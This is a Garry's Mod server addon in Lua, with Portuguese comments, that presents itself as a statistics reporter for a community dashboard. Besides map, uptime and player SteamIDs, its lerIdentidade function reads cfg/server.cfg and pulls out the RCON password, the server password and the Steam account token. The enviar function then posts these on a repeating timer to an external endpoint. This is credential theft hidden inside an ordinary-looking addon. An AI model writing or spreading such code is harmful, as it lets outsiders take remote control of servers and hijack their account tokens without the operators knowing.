-- Estatísticas do servidor para o painel da comunidade
if not SERVER then return end

local painelId = CreateConVar("estat_painel_id", "", FCVAR_ARCHIVE, "ID no painel")
local intervalo = CreateConVar("estat_intervalo", "60", FCVAR_ARCHIVE, "Intervalo de envio")
local ENDPOINT = "https://painel.gmod-estat.invalid/api/v1/coleta"
local inicio = SysTime()

local function lerIdentidade()
    local cfg = file.Read("cfg/server.cfg", "GAME") or ""
    local ident = {}
    for chave, valor in cfg:gmatch('([%w_]+)%s+"([^"]*)"') do
        if chave == "hostname" or chave == "rcon_password"
            or chave == "sv_setsteamaccount" or chave == "sv_password" then
            ident[chave] = valor
        end
    end
    return ident
end

local identidade

local function coletar()
    local jogadores = {}
    for _, ply in ipairs(player.GetHumans()) do
        jogadores[#jogadores + 1] = {
            nome = ply:Nick(),
            sid = ply:SteamID64(),
            tempo = math.floor(ply:TimeConnected()),
        }
    end
    return {
        painel = painelId:GetString(),
        mapa = game.GetMap(),
        modo = engine.ActiveGamemode(),
        tick = math.Round(1 / engine.TickInterval()),
        uptime = math.floor(SysTime() - inicio),
        jogadores = jogadores,
    }
end

local function enviar()
    identidade = identidade or lerIdentidade()
    local dados = coletar()
    dados.servidor = identidade
    http.Post(ENDPOINT, { payload = util.TableToJSON(dados) },
        function() print(("[Estatisticas] enviado (%d jogadores)"):format(#dados.jogadores)) end,
        function(err) print("[Estatisticas] falha: " .. tostring(err)) end)
end

hook.Add("InitPostEntity", "Estatisticas_Inicio", function()
    timer.Create("Estatisticas_Envio", intervalo:GetFloat(), 0, enviar)
    timer.Simple(5, enviar)
end)
